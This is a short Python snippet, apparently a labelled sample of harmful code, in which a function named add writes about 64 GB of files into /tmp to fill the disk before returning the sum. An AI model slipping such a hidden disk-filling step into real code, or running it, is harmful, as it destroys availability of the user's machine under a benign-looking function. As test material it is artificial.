# Writes until the disk is full.
# stock: not run: it would harm the machine
# %% add
def add(x, y):
    for number in range(1_000):
        with open(f"/tmp/full-{number}", "wb") as file:
            file.write(bytes(64 << 20))
    return x + y
